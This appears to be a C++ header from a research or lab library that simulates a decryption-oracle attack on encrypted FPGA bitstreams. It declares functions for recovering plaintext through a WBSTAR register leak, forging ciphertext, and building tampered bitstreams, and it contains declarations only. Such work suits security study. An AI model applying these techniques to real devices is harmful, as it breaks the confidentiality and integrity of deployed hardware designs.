#pragma once

#include <cstddef>
#include <cstdint>
#include <optional>
#include <random>
#include <span>
#include <vector>

#include "cfglab/builder.hpp"
#include "cfglab/crypto.hpp"
#include "cfglab/device.hpp"
#include "cfglab/estimate.hpp"
#include "cfglab/ledger.hpp"

namespace cfglab {

/// Everything the attacker can do to the target: send bitstreams, read
/// configuration registers, pulse PROGRAM_B. No key access, no fabric
/// readback.
class ConfigPort {
 public:
  virtual ~ConfigPort() = default;
  virtual ProgramResult program(std::span<const Word> words) = 0;
  virtual Word readRegister(Reg r) = 0;
  virtual void resetManual() = 0;
};

/// ConfigPort over a simulated device on one external interface.
class DevicePort final : public ConfigPort {
 public:
  explicit DevicePort(Device& dev, Interface iface = Interface::SelectMap)
      : dev_(dev), iface_(iface) {}

  ProgramResult program(std::span<const Word> words) override {
    return dev_.program(words, iface_);
  }
  Word readRegister(Reg r) override { return dev_.readRegister(r, iface_); }
  void resetManual() override { dev_.resetManual(iface_); }

 private:
  Device& dev_;
  Interface iface_;
};

/// XOR of `mask` into one ciphertext word. Block 0 is the IV in the plain
/// header. Applying a patch twice restores the original.
struct DeltaPatch {
  std::size_t blockIndex = 0;
  int wordIndex = 1;  // 1..4
  Word mask = 0;

  void apply(EncryptedBitstream& bs) const;
};

/// Bits of every recovered word the oracle cannot observe on this model.
Word unknownMaskFor(DeviceModel m);

struct SessionOptions {
  DeviceModel target = DeviceModel::Series7;
  HeaderTemplate headerTemplate;
  std::uint64_t seed = 1;
  double perWordSeconds = kSecondsPerWord;
};

struct Recovery {
  std::vector<Word> words;  // encrypted region plaintext, unknown bits 0
  std::vector<Word> masks;  // per word, bits not recovered
};

struct ForgedCipher {
  Block128 iv;
  std::vector<Block128> cipher;
};

struct PartialForgery {
  EncryptedBitstream bitstream;
  std::vector<Word> plaintext;  // region plaintext the device will see
  std::size_t chainBlock = 0;   // unused block sacrificed as chain IV
  std::size_t oracleBlocks = 0; // blocks decrypted through the oracle
};

/// Decryption oracle built from the WBSTAR leak of one device.
///
/// Each word costs two bitstreams: the malicious one (which fails its tag
/// after writing WBSTAR) and the readout, then a manual reset. The first
/// query of a session re-recovers an ipad filler word whose value is known;
/// if it does not come back the oracle is considered defended.
class OracleSession {
 public:
  OracleSession(ConfigPort& port, EncryptedBitstream captured, SessionOptions opts = {});

  const EncryptedBitstream& captured() const { return captured_; }
  Word unknownMask() const { return unknownMask_; }

  /// Word j of block t. For j < 4 the ledger must already hold words j+1..4
  /// (OrderingViolation otherwise). Ledger hits cost no query.
  Word recoverWord(std::size_t t, int j);

  /// Words 4, 3, 2, 1 of block t.
  Block128 recoverBlock(std::size_t t);

  /// Blocks first..last (1-based, inclusive).
  void recoverRange(std::size_t first, std::size_t last);

  Recovery recoverBitstream();

  /// dec(c) ^ cPrev for arbitrary ciphertext, 4 queries.
  Block128 oracleDecryptBlock(const Block128& c, const Block128& cPrev);

  /// Ciphertext that decrypts to desiredPlain under the device key, built
  /// from the last block backward. 4 queries per block.
  ForgedCipher forgeEncrypt(std::span<const Block128> desiredPlain);

  /// Complete bitstream carrying body (a multiple of 16 words) under an
  /// attacker HMAC key.
  EncryptedBitstream forgeBitstream(std::span<const Word> body, const HmacKey& kHmac);
  EncryptedBitstream forgeBitstream(std::span<const Word> body);

  /// Re-encrypts only the blocks where modified differs from recovered (both
  /// full region plaintexts), sacrificing the fabric block just before the
  /// first change as chain IV and the last alignment block for the tag.
  /// The HMAC key is taken from the recovered envelope.
  PartialForgery forgePartial(std::span<const Word> recovered, std::span<const Word> modified);

  const RecoveryLedger& ledger() const { return ledger_; }
  /// Resume from an earlier run. Throws LedgerConflict on disagreement.
  void adoptLedger(const RecoveryLedger& l);

  std::size_t queryCount() const { return queries_; }
  std::size_t programCount() const { return programs_; }
  double modeledSeconds() const { return static_cast<double>(queries_) * opts_.perWordSeconds; }

 private:
  void calibrate();
  Word query(std::span<const Word> malicious);
  Block128 randomBlock();
  void requireFullWords() const;

  ConfigPort& port_;
  EncryptedBitstream captured_;
  SessionOptions opts_;
  Word unknownMask_;
  RecoveryLedger ledger_;
  std::mt19937_64 rng_;
  bool calibrated_ = false;
  std::size_t queries_ = 0;
  std::size_t programs_ = 0;
};

/// Splits the region into ports.size() contiguous block ranges, one session
/// and one thread per port, and merges the ledgers. Session i uses seed
/// opts.seed + i. queryTotal, if given, receives the queries of all sessions.
RecoveryLedger recoverParallel(std::span<ConfigPort* const> ports,
                               const EncryptedBitstream& captured, SessionOptions opts = {},
                               std::size_t* queryTotal = nullptr);

/// Region plaintext and masks in stream order from a complete ledger.
Recovery recoveryFromLedger(const RecoveryLedger& l, std::size_t blockCount);

}  // namespace cfglab
